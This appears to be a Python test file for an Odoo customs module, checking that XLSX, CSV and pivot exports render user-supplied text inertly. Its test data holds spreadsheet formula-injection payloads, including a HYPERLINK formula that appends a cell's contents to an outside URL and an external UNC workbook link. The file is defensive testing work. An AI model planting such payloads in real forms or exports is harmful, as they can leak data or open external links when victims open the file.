"""Texts that begin like a formula come out of Odoo's own exports as texts."""

import csv
import io
import json
import zipfile

from odoo.http import Request
from odoo.tests import HttpCase, tagged

from ..common.cases import PASSWORD, CustomsCase

FORMULA = '=HYPERLINK("http://example.com/?"&A1,"Open")'
TEXTS = (
    FORMULA,
    "{=1+1}",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
)
LINK = r"external:\\server\share\book.xlsx"
HONEST = ("-5", "Съёмка = снимок", "1 < 2", "a@example.com", "Šljiva")
ANSWER = "customs.task.answer"


@tagged("post_install", "-at_install")
class TestExportTexts(CustomsCase, HttpCase):
    """What people outside wrote, exported by an officer from the list (number 10 of the attacks)."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        case = cls.sent_visit(days=-20)
        contact = cls.portal_contact(case.verified_person_id, name=FORMULA, login="formula_contact")
        cls.env["ir.config_parameter"].sudo().set_param("customs_verification.file_minute_acts", "99")
        cls.answers = cls.env[ANSWER]
        for text in (*TEXTS, LINK, *HONEST):
            task = cls.task(case)
            cls.answers |= task.with_user(contact).give_answer(1, text)
        cls.contact = contact.partner_id
        cls.officer.group_ids |= cls.env.ref("base.group_allow_export")
        cls.env.flush_all()

    def export(self, kind, model, ids, names, **more):
        self.authenticate(self.officer.login, PASSWORD)
        wanted = {
            "model": model,
            "fields": [{"name": name, "label": name, "type": "text"} for name in names],
            "ids": ids,
            "domain": [],
            "import_compat": False,
            **more,
        }
        form = {"data": json.dumps(wanted), "csrf_token": Request.csrf_token(self)}
        response = self.url_open(f"/web/export/{kind}", data=form)
        self.assertEqual(response.status_code, 200, response.text[:300])
        return response.content

    def sheet(self, content):
        """Return the sheet, the texts and the links of a workbook, as they are stored."""
        with zipfile.ZipFile(io.BytesIO(content)) as book:
            names = book.namelist()
            links = [book.read(name).decode() for name in names if name.endswith(".rels") and "sheet" in name]
            texts = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in names else ""
            return book.read("xl/worksheets/sheet1.xml").decode(), texts, "".join(links)

    def assert_inert(self, content):
        sheet, texts, links = self.sheet(content)
        self.assertNotIn("<f", sheet.replace("<fo", ""))
        self.assertNotIn("server", links)
        return texts

    def test_xlsx(self):
        """Dishonest texts of every kind: no cell is a formula or a link to a file, each text is whole."""
        texts = self.assert_inert(self.export("xlsx", ANSWER, self.answers.ids, ["id", "text"]))
        for text in ("HYPERLINK(", "{=1+1}", "+1+1", "-1+1", "@SUM(A1)", "＝1+1", "external:", *HONEST[:1]):
            self.assertIn(text, texts)

    def test_xlsx_by_relation(self):
        """From whatever model, by whatever relation; the names of contacts that name themselves too."""
        tasks = self.answers.task_id
        for model, ids, names in (
            ("customs.task", tasks.ids, ["name", "answer_ids/text"]),
            ("customs.file", [], ["name", "answer_id/text"]),
            ("res.partner", self.contact.ids, ["name", "display_name"]),
            (ANSWER, self.answers.ids, ["answered_by_id/name", "answered_by_name"]),
        ):
            with self.subTest(model=model):
                self.assert_inert(self.export("xlsx", model, ids, names))

    def test_xlsx_grouped(self):
        """The headings of groups are such texts as well."""
        texts = self.assert_inert(
            self.export("xlsx", ANSWER, self.answers.ids, ["text"], groupby=["answered_by_name"])
        )
        self.assertIn("HYPERLINK(", texts)

    def test_csv(self):
        """In a CSV each such text stands behind an apostrophe, as Odoo does it for three of the signs."""
        rows = list(
            csv.reader(
                io.StringIO(self.export("csv", ANSWER, self.answers.ids, ["text"]).decode(), newline="")
            )
        )
        cells = [row[0] for row in rows[1:]]
        for text in TEXTS:
            if text != "{=1+1}":
                kept = text.strip() if text[0] in "\t\r" else text
                self.assertIn(f"'{kept}", [cell.replace("\t", "").replace("\r", "") for cell in cells])
        for cell in cells:
            self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")), cell)
        for text in HONEST[1:]:
            self.assertIn(text, cells)

    def test_pivot(self):
        """The workbook of a pivot: titles of its rows and columns, and its cells."""
        self.authenticate(self.officer.login, PASSWORD)
        cell = {"title": FORMULA, "width": 1, "height": 1, "is_bold": False}
        data = {
            "title": "Answers",
            "model": ANSWER,
            "measure_count": 1,
            "origin_count": 1,
            "col_group_headers": [[cell]],
            "measure_headers": [cell],
            "origin_headers": [],
            "rows": [{"title": FORMULA, "indent": 0, "values": [{"value": FORMULA}, {"value": -5}]}],
        }
        form = {"data": json.dumps(data), "csrf_token": Request.csrf_token(self)}
        for given in (
            {"data": form},
            {"data": {"csrf_token": form["csrf_token"]}, "files": {"data": form["data"]}},
        ):
            response = self.url_open("/web/pivot/export_xlsx", **given)
            self.assertEqual(response.status_code, 200)
            texts = self.assert_inert(response.content)
            self.assertIn("HYPERLINK(", texts)
            self.assertIn("<v>-5</v>", self.sheet(response.content)[0])
